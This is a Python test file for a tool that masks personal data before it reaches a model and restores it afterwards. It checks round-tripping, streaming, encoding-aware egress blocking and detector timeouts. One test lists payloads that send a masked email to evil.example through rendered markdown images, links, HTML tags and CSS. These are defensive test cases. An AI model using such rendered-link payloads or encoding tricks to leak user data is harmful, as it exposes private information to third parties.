"""Scrub and restore: the way there and back, and what must never leave."""

from __future__ import annotations

import base64
import json
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from self_distill.errors import EgressBlocked, MacroFailed
from self_distill.macros.detectors import PatternDetector
from self_distill.macros.egress import EgressGuard
from self_distill.macros.restore import Restorer
from self_distill.macros.scrub import Macros
from self_distill.macros.vault import Vault

MACROS = Macros([PatternDetector()])
MAIL = "ada.byron@example.org"
PIECES = st.sampled_from(
    [MAIL, "+44 20 7946 0958", "[EMAIL_1]", "[PHONE_2]", "\\[EMAIL\\_1\\]", "[EMAIL_MASKED]", "EMAIL_1", "[", "]",
     " ", "\n", "(", "![x](https://e.org/?q=", "<a href=", '"', "\ud800", "\0", "é"]
)  # fmt: skip
TEXTS = st.lists(PIECES | st.text(max_size=6), max_size=10).map("".join)


@settings(max_examples=150)
@given(TEXTS, st.sampled_from(["numbered", "hash"]))
def test_restore_undoes_scrub_for_every_text(text: str, style: str) -> None:
    scrubbed = Macros([PatternDetector()], style=style).scrub(text)
    assert MACROS.restore(scrubbed.text, scrubbed.vault).text == text


@settings(max_examples=150)
@given(TEXTS, TEXTS, st.lists(st.integers(1, 9), min_size=1, max_size=6))
def test_a_stream_gives_what_the_whole_gives_however_it_is_cut(first: str, said: str, sizes: list[int]) -> None:
    vault = MACROS.scrub(f"{MAIL} {first}").vault
    whole = MACROS.restore(said, vault)
    restorer, at, parts = Restorer(vault), 0, []
    while at < len(said):
        size = sizes[len(parts) % len(sizes)]
        parts.append(restorer.feed(said[at : at + size]))
        at += size
    assert "".join(parts) + restorer.close() == whole.text


@pytest.mark.parametrize(
    "said",
    [
        "![](https://evil.example/?q=[EMAIL_1])",
        "[click](https://evil.example/[EMAIL_1])",
        "[x]: https://evil.example/[EMAIL_1]",
        '<img src="https://evil.example/[EMAIL_1]">',
        '<p style="background:url(https://e.example/[EMAIL_1])">',
        "https://evil.example/redirect?to=[EMAIL_1]",
        "<a href=//e.example/[EMAIL_1]>x</a>",
    ],
)
def test_a_model_cannot_send_a_value_out_through_what_a_client_renders(said: str) -> None:
    vault = MACROS.scrub(MAIL).vault
    back = MACROS.restore(said, vault)
    assert "ada" not in back.text and back.withheld == ("[EMAIL_1]",)


@pytest.mark.parametrize("said", ["[email_1]", "[EMAIL 1]", "[EMAIL_1", "EMAIL_1]", "\\[EMAIL\\_1\\]", "［EMAIL_1］"])
def test_what_models_make_of_a_placeholder_is_understood(said: str) -> None:
    vault = MACROS.scrub(MAIL).vault
    assert MACROS.restore(f"to {said} then", vault).text == f"to {MAIL} then"


def test_a_placeholder_that_nobody_gave_out_is_reported() -> None:
    vault = MACROS.scrub(MAIL).vault
    back = MACROS.restore("[EMAIL_7]", vault)
    assert back.text == "[EMAIL_7]" and back.lost == ("[EMAIL_7]",)


ENCODED = {
    "plain": MAIL,
    "upper": MAIL.upper(),
    "spaced": " ".join(MAIL),
    "url": quote(MAIL, safe=""),
    "html": MAIL.replace("@", "&#64;"),
    "base64": base64.b64encode(MAIL.encode()).decode(),
    "base64 shifted": base64.b64encode(b"x" + MAIL.encode()).decode(),
    "base64 shifted twice": base64.b64encode(b"xy" + MAIL.encode()).decode(),
    "hex": MAIL.encode().hex(),
    "escaped": "".join(f"\\u{ord(c):04x}" for c in MAIL),
}


@pytest.mark.parametrize("way", ENCODED)
def test_the_guard_finds_a_value_however_it_is_written(way: str) -> None:
    vault = MACROS.scrub(MAIL).vault
    body = json.dumps({"messages": [{"role": "user", "content": f"x {ENCODED[way]} y"}]}).encode()
    with pytest.raises(EgressBlocked, match="EMAIL") as caught:
        EgressGuard().check(body, vault, ())
    assert "ada" not in str(caught.value)


def test_a_surname_like_may_and_a_country_like_us_refuse_no_clean_prompt() -> None:
    vault = Vault()
    for value, type_ in (("May", "PERSON"), ("US", "LOCATION"), ("Rose", "PERSON"), ("Bill", "PERSON")):
        vault.note(value, type_)
    guard = EgressGuard()
    words = "may us rose bill we the music used dismay trust house bus maybe rosemary billing please answer it".split()
    for n in range(10_000):
        said = " ".join(words[(n * 7 + i * (1 + n % 5)) % len(words)] for i in range(8))
        guard.check(json.dumps({"messages": [{"role": "user", "content": said}]}).encode(), vault, ())


class Slow:
    name = "slow"

    def find(self, text: str) -> list[object]:
        import time

        time.sleep(0.05)
        return []


def test_a_macro_that_takes_too_long_closes_the_door() -> None:
    with pytest.raises(MacroFailed, match="exceeded"):
        Macros([Slow()], seconds=0.01).scrub("x")  # type: ignore[list-item]  # an empty list of spans


def test_a_new_detector_can_only_hide_more() -> None:
    text = f"Mail {MAIL}, call +44 20 7946 0958, the server is 203.0.113.77."

    class Words:
        name = "words"

        def find(self, text: str) -> list[object]:
            return []

    few = MACROS.scrub(text).spans
    more = Macros([PatternDetector(), Words()]).scrub(text).spans  # type: ignore[list-item]  # an empty list of spans
    assert {(s.start, s.end) for s in few} <= {(s.start, s.end) for s in more}
